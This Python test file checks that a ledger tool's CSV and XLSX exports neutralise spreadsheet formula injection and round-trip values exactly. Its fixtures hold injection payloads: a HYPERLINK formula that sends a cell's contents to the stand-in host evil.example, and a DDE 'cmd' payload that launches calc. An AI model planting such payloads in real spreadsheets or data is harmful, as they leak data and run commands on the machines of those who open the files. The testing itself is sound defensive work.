"""Spreadsheet formulas never come out of an export, and the round trip stays exact.

A ledger is data that people type; a name such as `=HYPERLINK(...)` must reach the next
person's spreadsheet as the text it is. CSV cells that a spreadsheet would take for a
formula get a leading `'` (OWASP's advice), which the importer takes off again; XLSX
cells are written as text cells, never formulas. Export → import → export stays
byte-identical with such values in every text column, keys and organization names
included.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import Engine, select

from shared.ledger.exporter import export_kind
from shared.ledger.importer import import_files
from shared.models import Member
from tests.integration.ledger.conftest import export_bytes
from tests.integration.ledger.sample import id_number, write_csv

Ledger = dict[str, list[dict[str, object]]]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"click")'
#: a sign before digits, spaces and masking stars only (`+86 138****5678`): a number
_PLAIN_NUMBER = re.compile(r"[+-][\d .*]+")


def _is_formula_like(cell: str) -> bool:
    """What Excel, LibreOffice or Sheets would evaluate at the start of a CSV cell."""
    if cell[:1] in ("=", "@", "\t", "\r"):
        return True
    return cell[:1] in ("+", "-") and len(cell) > 1 and not _PLAIN_NUMBER.fullmatch(cell)


def hostile(ledger: Ledger) -> Ledger:
    """The sample ledger plus an organization, a member and an interaction made of formulas."""
    ledger["organizations"].append({"code": "@ORG", "name": "=1+1", "parent_code": "TH"})
    ledger["members"].append(
        {
            "member_id": "=M004",
            "name": HYPERLINK,
            "id_number": id_number("19900101", "321"),
            "home_org": "@ORG",
            "join_date": "2010-07-01",
            "mobile_since": "2020-01-01",
            "location": "\t=1+1",
            "industry": "-1+cmd|' /C calc'!A0",
            "reason": "''=quoted already",  # a CSV cell typed as text: one apostrophe comes off
            "certificate_no": "#N/A",
        }
    )
    ledger["interactions"].append(
        {"member_id": "=M004", "kind": "phone", "on": "2026-02-03", "note": "+SUM(A1:A9)"}
    )
    return ledger


def _cells(directory: Path) -> list[str]:
    cells: list[str] = []
    for path in sorted(directory.glob("*.csv")):
        text = path.read_bytes().decode("utf-8-sig")
        for record in csv.reader(io.StringIO(text, newline="")):
            cells.extend(record)
    return cells


def test_no_cell_of_a_csv_export_starts_like_a_formula(
    engine: Engine, tmp_path: Path, ledger: Ledger
) -> None:
    import_files(engine, write_csv(tmp_path / "in", ledger=hostile(ledger)))
    export_kind(engine, "all", "csv", tmp_path / "full", full=True)
    export_kind(engine, "all", "csv", tmp_path / "masked")
    for directory in (tmp_path / "full", tmp_path / "masked"):
        cells = _cells(directory)
        assert f"'{HYPERLINK}" in cells and "'@ORG" in cells and "'=1+1" in cells
        assert [c for c in cells if _is_formula_like(c)] == []


def test_a_csv_export_with_formulas_imports_back_byte_identical(
    engine: Engine, tmp_path: Path, ledger: Ledger, fresh: Callable[[], None]
) -> None:
    import_files(engine, write_csv(tmp_path / "in", ledger=hostile(ledger)))
    first = export_bytes(engine, tmp_path / "first")
    fresh()
    import_files(engine, sorted((tmp_path / "first").glob("*.csv")))
    with engine.connect() as conn:
        member = conn.execute(select(Member).where(Member.member_id == "=M004")).one()
    assert (member.name, member.location, member.reason) == (
        HYPERLINK,
        "\t=1+1",
        "'=quoted already",
    )
    assert export_bytes(engine, tmp_path / "second") == first


def test_a_leading_tab_before_a_formula_is_kept_on_import(
    engine: Engine, tmp_path: Path, ledger: Ledger
) -> None:
    """Stripping the tab would turn `\\t=1+1` into the formula `=1+1`."""
    import_files(engine, write_csv(tmp_path / "in", ledger=hostile(ledger)))
    with engine.connect() as conn:
        location = conn.execute(
            select(Member.location).where(Member.member_id == "=M004")
        ).scalar_one()
    assert location == "\t=1+1"


def test_an_xlsx_export_writes_formula_like_text_as_text_cells(
    engine: Engine, tmp_path: Path, ledger: Ledger, fresh: Callable[[], None]
) -> None:
    import_files(engine, write_csv(tmp_path / "in", ledger=hostile(ledger)))
    first = export_bytes(engine, tmp_path / "first")
    export_kind(engine, "all", "xlsx", tmp_path / "ledger.xlsx", full=True)
    book = load_workbook(tmp_path / "ledger.xlsx")  # not data_only: formulas would show
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate)
                values.append(cell.value)
    assert HYPERLINK in values and "=M004" in values and "#N/A" in values
    fresh()
    import_files(engine, [tmp_path / "ledger.xlsx"])
    assert export_bytes(engine, tmp_path / "second") == first
